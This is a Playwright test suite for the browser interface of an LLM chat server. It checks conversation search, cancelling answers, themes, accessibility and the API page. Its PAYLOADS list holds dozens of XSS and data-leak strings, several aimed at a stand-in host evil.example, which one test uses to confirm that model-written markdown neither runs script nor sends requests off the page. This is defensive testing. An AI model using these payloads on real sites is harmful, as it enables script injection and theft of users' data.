# ruff: noqa: E501
"""The page in a real browser, where there is one: set QUARREL_CHROMIUM to a Chromium and install playwright."""

from __future__ import annotations

import asyncio
import os
import random
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest

from quarrel.engine import Chunk
from quarrel.server import websocket as server_socket
from quarrel.server.dispatch import Generation, chunks
from tests.server.conftest import Live

CHROMIUM = os.environ.get("QUARREL_CHROMIUM", "")
playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).is_file(), reason="QUARREL_CHROMIUM names no browser")

AXE = os.environ.get("QUARREL_AXE", "")
SHOTS = os.environ.get("QUARREL_SHOTS")
"""A folder for screenshots."""

PAYLOADS = [
    "<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
    "[a](javascript:hit())", "[a](JaVaScRiPt:hit())", "[a](data:text/html,<script>hit()</script>)", "![a](x onerror=hit())",
    "![x](https://evil.example/leak?q=1)", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<a href='javascript:hit()'>a</a>",
    "```html\n<script>hit()</script>\n```", "`<img src=x onerror=hit()>`", "<details open ontoggle=hit()>", "<math><mtext></form><form>"
    "<mglyph><style></math><img src onerror=hit()>", "<style>@import 'https://evil.example/x.css'</style>", "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=a></form>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data='data:text/html,<script>hit()</script>'>", "<p style='background:url(https://evil.example/a)'>a", "<b id=app>a</b>",
    "|a|\n|-|\n|<img src=x onerror=hit()>|", "[x]: javascript:hit()\n[x]", "<https://a.example/\"onmouseover=\"hit()>",
    "```\"><img src=x onerror=hit()>\na\n```", "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "&lt;img src=x onerror=hit()&gt;",
    "<template><img src=x onerror=hit()></template>", "<video><source onerror=hit()></video>", "\u0000<scr\u0000ipt>hit()</scr\u0000ipt>",
]  # fmt: skip


@pytest.fixture(name="page")
def _page(live: Live, request: pytest.FixtureRequest) -> Iterator[Any]:
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--headless=shell"])
        # The page's own policy stands but in the test that brings a script of its own.
        bypass = request.node.originalname == "test_axe_finds_nothing"
        context = browser.new_context(viewport={"width": 1200, "height": 800}, bypass_csp=bypass)
        context.add_init_script("localStorage.quarrelSettings ??= JSON.stringify({max_tokens: 40})")
        # It is not there where a page comes by plain http from another machine.
        context.add_init_script("delete Crypto.prototype.randomUUID")
        page = context.new_page()
        page.problems = []
        page.foreign = []
        page.on("pageerror", lambda e: page.problems.append(str(e)))
        page.on(
            "request", lambda r: page.foreign.append(r.url) if not r.url.startswith((live.url, "data:", "blob:")) else None
        )
        page.goto(live.url)
        page.wait_for_selector(".state[data-state=connected]")
        yield page
        browser.close()


def shot(page: Any, name: str) -> None:
    if SHOTS:
        page.screenshot(path=str(Path(SHOTS) / f"{name}.png"))


def write(page: Any, text: str) -> None:
    page.fill("#input", text)
    page.keyboard.press("Enter")


def test_a_conversation_is_written_kept_and_found_again(page: Any) -> None:
    write(page, "Once upon a time")
    page.wait_for_selector(".message.assistant .under")
    text = page.inner_text(".message.assistant .body")
    assert len(text) > 20
    shot(page, "answer")
    page.reload()
    page.wait_for_selector(".state[data-state=connected]")
    page.fill("#search", "Once")
    page.click("#conversations button")
    assert page.inner_text(".message.assistant .body") == text
    page.fill("#search", "no such words")
    assert "Nothing found" in page.inner_text("#conversations")
    assert not page.problems
    assert not page.foreign


def test_an_answer_is_stopped(page: Any, live: Live, monkeypatch: pytest.MonkeyPatch) -> None:
    async def endless(generation: Generation, which: int, timeout: float) -> AsyncIterator[Chunk]:
        async for chunk in chunks(generation, which, timeout):
            yield chunk
            await asyncio.Event().wait()

    monkeypatch.setattr(server_socket, "chunks", endless)
    write(page, "A very long story")
    page.wait_for_selector("#stop:not([hidden])")
    page.keyboard.press("Escape")
    page.wait_for_selector(".message.assistant .under")
    assert "cancelled" in page.inner_text(".message.assistant .under")
    assert page.is_visible("#send")
    loaded = live.server.dispatcher.models.entry("demo").loaded
    assert loaded is not None
    end = time.monotonic() + 60
    while loaded.llm.activity().running and time.monotonic() < end:
        page.wait_for_timeout(10)
    assert not loaded.llm.activity().running


def test_themes_widths_settings_and_figures(page: Any) -> None:
    seen = set()
    for _ in range(3):
        page.click("#theme")
        seen.add(page.evaluate("document.documentElement.dataset.theme"))
    assert seen == {"light", "dark"}
    page.click("#open-settings")
    page.fill("#set-seed", "12x3")
    page.keyboard.press("Tab")
    assert page.input_value("#set-seed") == "123"
    shot(page, "settings")
    page.click("#close-settings")
    page.click("#show-metrics")
    page.wait_for_selector("#metrics canvas", timeout=15000)
    assert (page.inner_text("#title"), page.is_visible("#composer")) == ("Metrics", False)
    model = '{name: "m", running: 1, waiting: 0, kv_blocks: 4, kv_blocks_free: 1, experts: [0.1, 0.5, 0.15, 0.25]}'
    page.evaluate(f'import("/static/js/plots.js").then((p) => p.take({{models: [{model}]}}))')
    page.wait_for_selector("canvas[aria-label*='the busiest of 4 experts takes 50.0 %']")
    page.locator("canvas").last.scroll_into_view_if_needed()
    shot(page, "figures")
    page.click("#new")
    assert (page.inner_text("#title"), page.is_visible("#composer")) == ("New conversation", True)
    page.set_viewport_size({"width": 380, "height": 740})
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.click("#open-side")
    page.click("#scrim", position={"x": 350, "y": 400})
    page.wait_for_selector("#new", state="hidden")
    page.click("#open-side")
    page.wait_for_timeout(300)
    assert page.is_visible("#new")
    shot(page, "phone")
    assert not page.problems


def test_nothing_that_a_model_writes_runs_or_leaves_the_page(page: Any) -> None:
    rng = random.Random(1)
    splits = []
    for payload in PAYLOADS * 8:
        text = "Some words.\n\n" + payload + "\n\nand more"
        cuts = sorted(rng.sample(range(1, len(text)), min(4, len(text) - 1)))
        splits.append([text[:c] for c in [*cuts, len(text)]])
    # From the page's own origin: a policy against scripts stands, so the test asks for the module as the page does.
    page.evaluate(
        """async (splits) => {
          window.hits = 0; window.hit = () => { window.hits += 1; };
          const { show } = await import("/static/js/markdown.js");
          for (const prefixes of splits) {
            const at = document.createElement("div");
            document.getElementById("thread").append(at);
            for (const text of prefixes) { show(at, text); await new Promise((r) => setTimeout(r, 0)); }
            for (const each of at.querySelectorAll("*"))
              if ([...each.attributes].some((a) => /^on|^style$|^id$|^src/i.test(a.name))) window.hits += 1;
            const never = "script,img,iframe,svg,math,object,form,style,base,meta,input,video,template";
            if (at.querySelector(never)) window.hits += 1;
            for (const a of at.querySelectorAll("a[href]"))
              if (!/^(https?|mailto):/.test(a.getAttribute("href"))) window.hits += 1;
          }
        }""",
        splits,
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hits") == 0
    assert page.foreign == []


@pytest.mark.skipif(not Path(AXE).is_file(), reason="QUARREL_AXE names no axe.min.js (of the npm package axe-core)")
def test_axe_finds_nothing(page: Any) -> None:
    script = Path(AXE).read_text("utf-8")

    def findings() -> list[str]:
        page.wait_for_timeout(300)
        page.evaluate("(s) => window.axe || new Function(s).call(window)", script)
        return page.evaluate("async () => (await axe.run(document)).violations.map((v) => `${v.id} ${v.nodes[0].html}`)")

    write(page, "Once upon a time")
    page.wait_for_selector(".message.assistant .under")
    for press in ("#theme", "#open-settings", "#close-settings", "#show-metrics", "#theme"):
        page.click(press)
        assert findings() == [], press
    page.set_viewport_size({"width": 380, "height": 740})
    page.click("#open-side")
    assert findings() == []


def test_the_api_is_told_on_a_page_of_its_own(page: Any, live: Live) -> None:
    page.goto(f"{live.url}/static/api.html")
    page.wait_for_selector("details")
    page.click("summary:has-text('/v1/chat/completions')")
    row = page.inner_text("details[open] tr:has-text('temperature')")
    assert "number" in row
    assert "at least 0, at most 100" in row
    shot(page, "api")
    assert not page.problems


def test_a_route_is_tried_on_the_page(page: Any, live: Live) -> None:
    page.goto(f"{live.url}/static/api.html")
    for name, said in (
        ("POST /v1/completions", '"text_completion"'),
        ("GET /api/models/{name}", '"demo"'),
        ("GET /version", '"quarrel"'),
    ):
        route = page.locator("details", has=page.locator(f"summary code:text-is('{name}')"))
        route.locator("summary").click()
        route.locator("button").click()
        page.wait_for_function("node => node.textContent.startsWith('200')", arg=route.locator("pre").element_handle())
        assert said in route.locator("pre").text_content()
    assert page.problems == page.foreign == []


def test_the_sidebar_knows_what_is_loaded(page: Any, live: Live) -> None:
    live.client.delete("/api/models/demo")
    page.reload()
    page.wait_for_selector("#models .dot.unloaded")
    write(page, "Once")
    page.wait_for_selector(".message.assistant .under")
    assert "Q8_0" in page.inner_text("#models")
    assert "11 M" in page.inner_text("#models")


def test_models_code_is_coloured_and_copied(page: Any) -> None:
    found = page.evaluate(
        """async () => {
          const { show } = await import("/static/js/markdown.js");
          const at = document.createElement("div");
          show(at, "**bold** and\\n```python\\ndef f(x):\\n    return x + 1\\n```");
          return [at.querySelectorAll("strong").length, at.querySelectorAll("pre code .hljs-keyword").length];
        }"""
    )
    assert found[0] == 1
    assert found[1] >= 2
